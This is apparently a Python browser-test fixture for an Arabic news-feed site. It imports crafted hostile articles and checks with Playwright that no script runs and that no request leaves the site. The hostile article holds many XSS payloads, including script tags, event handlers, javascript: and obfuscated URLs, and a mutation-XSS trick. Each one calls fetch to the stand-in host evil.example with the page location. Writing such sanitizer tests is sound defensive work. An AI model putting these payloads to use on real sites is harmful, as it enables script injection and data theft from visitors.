"""A desk of samples and of hostile articles in a process of its own, and what a browser sees of it."""

import json
import os
import re
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, Generic, TypeVar

from playwright.sync_api import Browser, Page

from tests.browser.chromium import Chromium

T = TypeVar("T")

ROOT = Path(__file__).parents[2]
FEEDS = [sys.executable, "-m", "feeds"]

# Whatever of this runs leaves a trace: in the window, on the console, as a request to another origin.
_RUN = "window.ran = 1; console.error('ran'); fetch('http://evil.example/?' + location)"
HOSTILE: dict[str, Any] = {
    "id": "tag:khulasat.example,2026:hostile",
    "title": f'خبر <script>{_RUN}</script><img src=x onerror="{_RUN}"> ]]> &lt;script&gt; <b>غامق</b>',
    "summary": f'ملخص <script>{_RUN}</script><svg onload="{_RUN}"></svg> ]]>',
    "content_html": f"""
        <p onclick="{_RUN}">نص</p><script>{_RUN}</script><script src="http://evil.example/a.js"></script>
        <img src="data:image/png,x" onerror="{_RUN}"><svg onload="{_RUN}"><script>{_RUN}</script></svg>
        <a href="javascript:{_RUN}">رابط</a> <a href="java&#8;script:{_RUN}">رابط</a>
        <a href="data:text/html,<script>{_RUN}</script>">رابط</a>
        <iframe src="http://evil.example/"></iframe><iframe srcdoc="<script>{_RUN}</script>"></iframe>
        <object data="http://evil.example/"></object><embed src="http://evil.example/">
        <link rel="stylesheet" href="http://evil.example/a.css"><style>@import "http://evil.example/b.css";</style>
        <p style="background: url(http://evil.example/c.png)">نص</p>
        <meta http-equiv="refresh" content="0; url=http://evil.example/"><base href="http://evil.example/">
        <form action="http://evil.example/"><input autofocus onfocus="{_RUN}"></form>
        <p>آخر النص ]]> <![CDATA[<script>{_RUN}</script>]]></p>
        <math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror='{_RUN}'>">""",
    "date_published": datetime.now(UTC).isoformat(),
    "authors": [{"name": f"<script>{_RUN}</script>", "url": f"javascript:{_RUN}"}],
    "tags": [f"<script>{_RUN}</script>"],
    "sections": ["world"],
}
# As long as it may be, without a place to break it, and with what turns a line around.
LONG = "طويل" * 1200 + "😀👨‍👩‍👧‍👦" * 500 + "\u202e\u2067" * 400 + "FIFA" * 100
UGLY: dict[str, Any] = {
    "id": "tag:khulasat.example,2026:ugly",
    "title": LONG,
    "summary": LONG,
    "content_html": f"<p>{LONG}</p><pre>{LONG}</pre><table><tr><td>{LONG}</td><td>1</td></tr></table>",
    "date_published": datetime.now(UTC).isoformat(),
    "authors": [{"name": LONG[:300]}, {"name": f"<b>\u202e{_RUN}</b>"}],
    "tags": [LONG[:200], "😀 وسم", "\u202eوسم"],
    "sections": ["world", f"<script>{_RUN}</script>", "قسم " + LONG[:60], "😀 قسم"],
}
# So that there are twelve sections at the least.
MORE = ["صحة", "تعليم", "رأي", "منوعات", "سفر", "بيئة"]


def records(samples: bytes) -> bytes:
    """The samples, the hostile articles, and some more sections with news."""
    more = [
        {
            "id": f"tag:khulasat.example,2026:more-{number}-{which}",
            "title": f"خبر {which} من قسم {name}",
            "content_html": "<p>نص</p>",
            "date_published": datetime.now(UTC).isoformat(),
            "sections": [name],
        }
        for number, name in enumerate(MORE)
        for which in range(3)
    ]
    return samples + b"".join(json.dumps(record).encode() + b"\n" for record in (HOSTILE, UGLY, *more))


@contextmanager
def served(folder: Path) -> Iterator[str]:
    """The address of a server with all that."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    environ = {name: value for name, value in os.environ.items() if not name.startswith("FEEDS_")}
    environ |= {
        "FEEDS_CONFIG": str(ROOT / "config.toml"),
        "FEEDS_STORE__URL": f"sqlite:{folder}/articles.db",
        # Pictures of articles stand there, too.
        "FEEDS_SITE__URL": f"http://127.0.0.1:{port}",
    }
    samples = subprocess.run([*FEEDS, "samples"], cwd=ROOT, env=environ, check=True, stdout=subprocess.PIPE)
    given = records(samples.stdout)
    done = subprocess.run([*FEEDS, "import", "-"], cwd=ROOT, env=environ, input=given, stdout=subprocess.PIPE)
    assert done.returncode == 0, done.stdout
    with (
        (folder / "log").open("wb") as log,
        subprocess.Popen(
            [*FEEDS, "serve", "--port", str(port)],
            cwd=ROOT,
            env=environ,
            stdout=subprocess.PIPE,
            stderr=log,
            encoding="utf-8",
        ) as server,
    ):
        try:
            assert server.stdout
            found = next(filter(None, (re.search(r"pages +(http://\S+)/", said) for said in server.stdout)), None)
            assert found, (folder / "log").read_text(encoding="utf-8")
            yield found[1]
        finally:
            server.terminate()


@dataclass(frozen=True, slots=True, kw_only=True)
class Seen(Generic[T]):
    """What came of opening an address; `found` is what was looked for there."""

    found: T
    headers: Mapping[str, str]
    ran: bool
    requests: list[str]
    messages: list[str]


def see(chromium: Chromium, address: str | None, look: Callable[[Page], T]) -> Seen[T]:
    """Opens an address, or a page that is only set by `look`, and waits until all is quiet."""

    def work(browser: Browser) -> Seen[T]:
        requests: list[str] = []
        messages: list[str] = []
        with browser.new_page() as page:
            page.on("request", lambda request: requests.append(request.url))
            page.on("console", lambda message: messages.append(message.text))
            page.on("pageerror", lambda error: messages.append(str(error)))
            page.route("http://evil.example/**", lambda route: route.abort())
            response = page.goto(address) if address else None
            page.wait_for_load_state("networkidle")
            found = look(page)
            page.wait_for_load_state("networkidle")
            return Seen(
                found=found,
                headers=response.headers if response else {},
                ran=page.evaluate("window.ran === 1"),
                requests=requests,
                messages=messages,
            )

    return chromium.run(work)


def assert_quiet(seen: Seen[T], site: str) -> None:
    """No script ran, nothing was said on the console, and only the site itself was asked for anything."""
    assert not seen.ran
    assert seen.messages == []
    assert [url for url in seen.requests if not url.startswith(f"{site}/")] == []


def styles(page: Page, selector: str, name: str) -> set[str]:
    """The computed values of a property, over all the elements that a selector finds; one at least."""
    script = "([selector, name]) => [...document.querySelectorAll(selector)].map(e => getComputedStyle(e)[name])"
    found: list[str] = page.evaluate(script, [selector, name])
    assert found, f"no {selector}"
    return set(found)
